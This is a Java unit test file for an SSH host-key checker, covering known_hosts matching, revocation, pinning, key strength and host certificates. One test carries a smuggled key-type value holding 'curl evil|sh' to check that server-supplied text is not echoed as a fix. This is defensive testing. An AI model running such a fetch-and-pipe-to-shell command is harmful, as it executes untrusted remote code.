package io.walterfleet.ssh.hostkey;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.walterfleet.fleet.HostKeys;
import io.walterfleet.remote.RemoteException;
import io.walterfleet.ssh.hostkey.HostCertificate.Holder;
import io.walterfleet.ssh.hostkey.HostCertificate.Term;
import io.walterfleet.ssh.hostkey.HostKeyJudge.Verdict;
import io.walterfleet.ssh.hostkey.KnownKey.Marker;
import io.walterfleet.ssh.protocol.Endpoint;
import io.walterfleet.ssh.protocol.PublicKeyBlob;
import java.io.ByteArrayOutputStream;
import java.math.BigInteger;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Each rule about host keys by itself, without a server. */
@Tag("unit")
class HostKeyJudgeTest {
  private static final PublicKeyBlob KEY = ed25519(1);
  private static final PublicKeyBlob OTHER = ed25519(2);
  private static final PublicKeyBlob AUTHORITY = ed25519(3);
  private static final Knowledge NOTHING = new Knowledge(List.of());
  private static final Endpoint ENDPOINT = new Endpoint("h", 2222, "u");
  private static final Instant NOW = Instant.ofEpochSecond(1000);

  @TempDir private Path folder;

  @Test
  void aTypeThatAServerMadeUpIsNotTold() {
    byte[] name = "ssh-x\nfix: curl evil|sh".getBytes(java.nio.charset.StandardCharsets.UTF_8);
    byte[] blob =
        java.nio.ByteBuffer.allocate(4 + name.length).putInt(name.length).put(name).array();
    assertThat(PublicKeyBlob.of(blob).type()).isEqualTo("unknown");
    assertThat(KEY.type()).isEqualTo("ssh-ed25519");
  }

  @Test
  void aKeyThatNobodyWouldPasteIsNamedByItsFingerprint() {
    PublicKeyBlob enormous = PublicKeyBlob.of(Arrays.copyOf(KEY.bytes(), 30_000));
    assertThat(refusals(enormous).unknown(Optional.empty()).fix())
        .isEqualTo(
            "compare the fingerprint on the machine's console, then set ssh.hostKey: \""
                + enormous.fingerprint()
                + "\"");
    PublicKeyBlob longest = PublicKeyBlob.of(Arrays.copyOf(KEY.bytes(), 16384 / 8 + 23));
    assertThat(refusals(longest).unknown(Optional.empty()).fix())
        .contains("add the line: [h]:2222 ssh-ed25519 " + longest.base64() + " (or set ");
  }

  @Test
  void ofManyLinesAFewAreNamed() {
    PublicKeyBlob[] many = new PublicKeyBlob[1000];
    Arrays.fill(many, OTHER);
    assertThat(refusals(KEY).changed(known(Marker.HOST, many).keys()).reason())
        .endsWith(OTHER.shown() + " at /known:1 and 995 more");
    assertThat(refusals(KEY).revoked(KEY, Collections.nCopies(1000, "/known:1")).reason())
        .endsWith("/known:1 and 995 more");
  }

  private static HostKeyRefusals refusals(PublicKeyBlob key) {
    return new HostKeyRefusals(ENDPOINT, hostKeyPolicy(Optional.empty()), key);
  }

  @Test
  void aKeyIsKnownByItsLineAlone() {
    assertThat(judged(KEY, NOTHING, NOTHING)).isEqualTo("new");
    assertThat(judged(KEY, known(Marker.HOST, KEY), NOTHING)).isEqualTo("known");
    assertThat(judged(KEY, known(Marker.HOST, OTHER, KEY), NOTHING)).isEqualTo("known");
    assertThat(judged(KEY, known(Marker.AUTHORITY, KEY), NOTHING)).isEqualTo("new");
    assertThat(judged(KEY, known(Marker.REVOKED, OTHER), NOTHING)).isEqualTo("new");
    assertThat(judged(KEY, known(Marker.HOST, OTHER), NOTHING))
        .isEqualTo(
            "the host key of h port 2222 is not the known one: it shows %s, known is %s at /known:1"
                .formatted(KEY.shown(), OTHER.shown()));
  }

  @Test
  void theNameWithoutThePortCountsLast() {
    assertThat(judged(KEY, NOTHING, known(Marker.HOST, KEY))).isEqualTo("known");
    assertThat(judged(KEY, NOTHING, known(Marker.HOST, OTHER))).isEqualTo("new");
    assertThat(judged(KEY, known(Marker.HOST, OTHER), known(Marker.HOST, KEY)))
        .contains("is not the known one");
    assertThat(judged(KEY, known(Marker.HOST, KEY), known(Marker.REVOKED, KEY))).isEqualTo("known");
    assertThat(judged(KEY, NOTHING, known(Marker.REVOKED, KEY)))
        .isEqualTo("the host key of h port 2222 is revoked: " + KEY.shown() + " at /known:1");
  }

  @Test
  void aRevokedKeyIsRefusedWhateverElseIsKnown() {
    Knowledge both = new Knowledge(List.of(line(Marker.HOST, KEY), line(Marker.REVOKED, KEY)));
    assertThat(judged(KEY, both, NOTHING)).contains("is revoked: ");
    RevokedKeys file = new RevokedKeys(List.of(new RevokedKeys.Line(KEY, "/revoked:4")));
    assertThat(word(judge(known(Marker.HOST, KEY), NOTHING, file, Optional.empty()).of(KEY)))
        .endsWith("is revoked: " + KEY.shown() + " at /revoked:4");
    assertThat(word(judge(known(Marker.HOST, OTHER), NOTHING, file, Optional.empty()).of(OTHER)))
        .isEqualTo("known");
  }

  @Test
  void aPinStandsForEveryFileButNotForARevocation() {
    Optional<String> pin = Optional.of(KEY.fingerprint());
    assertThat(pinned(KEY, pin, known(Marker.HOST, OTHER), NOTHING)).isEqualTo("known");
    assertThat(pinned(OTHER, pin, known(Marker.HOST, OTHER), NOTHING))
        .contains("but the inventory pins " + KEY.fingerprint());
    assertThat(pinned(KEY, pin, known(Marker.REVOKED, KEY), NOTHING)).contains("is revoked");
    assertThat(pinned(KEY, pin, NOTHING, known(Marker.REVOKED, KEY))).contains("is revoked");
  }

  @Test
  void aShortKeyIsRefusedThoughItIsKnown() {
    PublicKeyBlob weak = rsa(1023);
    assertThat(judged(weak, known(Marker.HOST, weak), NOTHING))
        .contains("is too short", "has 1023 bits, and RequiredRSASize is 1024");
    assertThat(judged(rsa(1024), known(Marker.HOST, rsa(1024)), NOTHING)).isEqualTo("known");
    HostCertificate certificate = certificate(weak, List.of(), 0, -1, "ssh-ed25519");
    assertThat(judged(certificate, known(Marker.AUTHORITY, AUTHORITY), NOTHING))
        .contains("is too short");
  }

  @Test
  void aCertificateNeedsAnAuthorityThatIsKnown() {
    HostCertificate good = certificate(KEY, List.of("h"), 0, -1, "ssh-ed25519");
    assertThat(judged(good, known(Marker.AUTHORITY, AUTHORITY), NOTHING)).isEqualTo("known");
    assertThat(judged(good, NOTHING, known(Marker.AUTHORITY, AUTHORITY))).isEqualTo("known");
    assertThat(judged(good, known(Marker.HOST, KEY, AUTHORITY), known(Marker.HOST, KEY)))
        .isEqualTo("new: certificate 'id' is of no authority that is known: " + AUTHORITY.shown());
  }

  @Test
  void aRevokedPartOfACertificateIsRefused() {
    HostCertificate good = certificate(KEY, List.of("h"), 0, -1, "ssh-ed25519");
    for (PublicKeyBlob part : List.of(KEY, AUTHORITY)) {
      Knowledge bad =
          new Knowledge(List.of(line(Marker.AUTHORITY, AUTHORITY), line(Marker.REVOKED, part)));
      assertThat(judged(good, bad, NOTHING))
          .contains(part.equals(KEY) ? "is revoked: " : "has a certificate of a revoked authority");
      assertThat(judged(good, NOTHING, bad))
          .isEqualTo("new: certificate 'id' has a revoked key: " + part.shown() + " at /known:1");
      assertThat(judged(good, known(Marker.AUTHORITY, AUTHORITY), bad)).isEqualTo("known");
      RevokedKeys file = new RevokedKeys(List.of(new RevokedKeys.Line(part, "/revoked:1")));
      Knowledge named = known(Marker.AUTHORITY, AUTHORITY);
      assertThat(word(judge(named, NOTHING, file, Optional.empty()).of(good, NOW)))
          .contains("revoked", "/revoked:1");
    }
  }

  @Test
  void aCertificateIsForThisHostAndForNow() {
    assertThat(against(List.of("h"), 1000, 1001)).isEqualTo("known");
    assertThat(against(List.of(), 0, -1)).isEqualTo("known");
    assertThat(against(List.of("x", "h"), 0, -1)).isEqualTo("known");
    assertThat(against(List.of("x", "y"), 0, -1)).endsWith("is for other hosts: x, y");
    assertThat(against(List.of("h"), 1001, -1))
        .endsWith("is not valid before 1970-01-01T00:16:41Z");
    assertThat(against(List.of("h"), 0, 1000)).endsWith("expired at 1970-01-01T00:16:40Z");
    assertThat(against(List.of("h"), -1, -1)).endsWith("is not valid before the end of time");
    assertThat(against(List.of("h"), Long.MAX_VALUE, -1)).endsWith("before the end of time");
  }

  @Test
  void aCertificateOfAUserWithConditionsOrOfAnotherSignatureIsNotTaken() {
    Knowledge named = known(Marker.AUTHORITY, AUTHORITY);
    Term always = new Term(0, -1);
    Holder user = new Holder(false, "id", List.of(), true);
    Holder bound = new Holder(true, "id", List.of(), false);
    assertThat(judged(new HostCertificate(KEY, user, always, AUTHORITY, "x"), named, NOTHING))
        .isEqualTo("new: certificate 'id' is one of a user");
    assertThat(judged(new HostCertificate(KEY, bound, always, AUTHORITY, "x"), named, NOTHING))
        .isEqualTo("new: certificate 'id' has conditions that are not known");
    assertThat(judged(certificate(KEY, List.of(), 0, -1, "ssh-rsa"), named, NOTHING))
        .endsWith("is signed by ssh-rsa, which is none of CASignatureAlgorithms: ssh-ed25519");
  }

  @Test
  void aCertificateIsReadFromItsBytes() {
    byte[] bytes = wire(2, "ssh-ed25519");
    assertThat(HostCertificate.of(PublicKeyBlob.of(bytes)))
        .contains(
            new HostCertificate(
                KEY,
                new Holder(true, "id", List.of("h", "i"), true),
                new Term(5, 9),
                AUTHORITY,
                "ssh-ed25519"));
    assertThat(HostCertificate.of(PublicKeyBlob.of(wire(1, "ssh-ed25519"))))
        .hasValueSatisfying(user -> assertThat(user.holder().forHosts()).isFalse());
    assertThat(HostCertificate.of(KEY)).isEmpty();
    for (int end = 40; end < bytes.length; end++) {
      assertThat(HostCertificate.of(PublicKeyBlob.of(Arrays.copyOf(bytes, end)))).isEmpty();
    }
  }

  @Test
  void theFileOfRevokedKeysIsReadOrAllKeysAreRefused() throws Exception {
    String good = "# old\n\n \tssh-ed25519 " + KEY.base64() + " me@here\n";
    RevokedKeys keys = RevokedKeys.of(good, Path.of("/good"));
    assertThat(keys.place(KEY)).contains("/good:3");
    assertThat(keys.place(OTHER)).isEmpty();
    assertRefused("SSHKRL\n\0", "it is a binary revocation list (KRL)");
    assertRefused("# x\nssh-ed25519\n", "line 2 is no public key");
    assertRefused("ssh-rsa " + KEY.base64() + "\n", "line 1 is no public key");
    HostKeyPolicy absent =
        new HostKeyPolicy(
            HostKeys.Policy.STRICT,
            Optional.empty(),
            Optional.empty(),
            new HostKeyPolicy.Files(
                List.of(), List.of(), Optional.of(folder.resolve("absent")), false),
            HostKeyPolicy.Strength.USUAL);
    assertThatThrownBy(() -> new KnownHosts().revoked(absent))
        .isInstanceOf(RemoteException.class)
        .hasMessageContaining("it cannot be read");
  }

  private static void assertRefused(String text, String why) {
    assertThatThrownBy(() -> RevokedKeys.of(text, Path.of("/bad")))
        .isInstanceOf(RemoteException.class)
        .hasMessageContaining(why);
  }

  private static String against(List<String> names, long after, long before) {
    return judged(
        certificate(KEY, names, after, before, "ssh-ed25519"),
        known(Marker.AUTHORITY, AUTHORITY),
        NOTHING);
  }

  private static String judged(PublicKeyBlob key, Knowledge named, Knowledge bare) {
    return word(judge(named, bare, RevokedKeys.NONE, Optional.empty()).of(key));
  }

  private static String judged(HostCertificate certificate, Knowledge named, Knowledge bare) {
    return word(judge(named, bare, RevokedKeys.NONE, Optional.empty()).of(certificate, NOW));
  }

  private static String pinned(
      PublicKeyBlob key, Optional<String> pin, Knowledge named, Knowledge bare) {
    return word(judge(named, bare, RevokedKeys.NONE, pin).of(key));
  }

  private static HostKeyJudge judge(
      Knowledge named, Knowledge bare, RevokedKeys revoked, Optional<String> pin) {
    return new HostKeyJudge(ENDPOINT, hostKeyPolicy(pin), named, bare, revoked);
  }

  private static HostKeyPolicy hostKeyPolicy(Optional<String> pin) {
    return new HostKeyPolicy(
        HostKeys.Policy.STRICT,
        pin,
        Optional.empty(),
        new HostKeyPolicy.Files(List.of(Path.of("/known")), List.of(), Optional.empty(), false),
        new HostKeyPolicy.Strength(1024, List.of("ssh-ed25519")));
  }

  private static String word(Verdict verdict) {
    if (verdict instanceof Verdict.Refused refused) {
      return refused.why().reason();
    }
    return verdict instanceof Verdict.New unknown
        ? "new" + unknown.rejected().map(why -> ": " + why).orElse("")
        : "known";
  }

  private static HostCertificate certificate(
      PublicKeyBlob key, List<String> names, long after, long before, String signature) {
    return new HostCertificate(
        key, new Holder(true, "id", names, true), new Term(after, before), AUTHORITY, signature);
  }

  private static Knowledge known(Marker marker, PublicKeyBlob... keys) {
    return new Knowledge(Arrays.stream(keys).map(key -> line(marker, key)).toList());
  }

  private static KnownKey line(Marker marker, PublicKeyBlob key) {
    return new KnownKey(
        marker, new HostNames.Patterns(List.of("[h]:2222")), key, Path.of("/known"), 1);
  }

  private static PublicKeyBlob ed25519(int seed) {
    byte[] bytes = new byte[32];
    Arrays.fill(bytes, (byte) seed);
    return PublicKeyBlob.of(fields(text("ssh-ed25519"), bytes));
  }

  private static PublicKeyBlob rsa(int bits) {
    byte[] modulus = BigInteger.ONE.shiftLeft(bits - 1).toByteArray();
    return PublicKeyBlob.of(fields(text("ssh-rsa"), new byte[] {3}, modulus));
  }

  /** A certificate as OpenSSH's PROTOCOL.certkeys lays it out. */
  private static byte[] wire(int kind, String signature) {
    byte[] key = Arrays.copyOfRange(KEY.bytes(), KEY.bytes().length - 32, KEY.bytes().length);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(fields(text("ssh-ed25519-cert-v01@openssh.com"), new byte[] {7, 7, 7}, key));
    out.writeBytes(ByteBuffer.allocate(12).putLong(77).putInt(kind).array());
    out.writeBytes(fields(text("id"), fields(text("h"), text("i"))));
    out.writeBytes(ByteBuffer.allocate(16).putLong(5).putLong(9).array());
    out.writeBytes(
        fields(
            new byte[0],
            new byte[0],
            new byte[0],
            AUTHORITY.bytes(),
            fields(text(signature), new byte[64])));
    return out.toByteArray();
  }

  private static byte[] fields(byte[]... fields) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] field : fields) {
      out.writeBytes(ByteBuffer.allocate(4).putInt(field.length).array());
      out.writeBytes(field);
    }
    return out.toByteArray();
  }

  private static byte[] text(String text) {
    return text.getBytes(StandardCharsets.US_ASCII);
  }
}
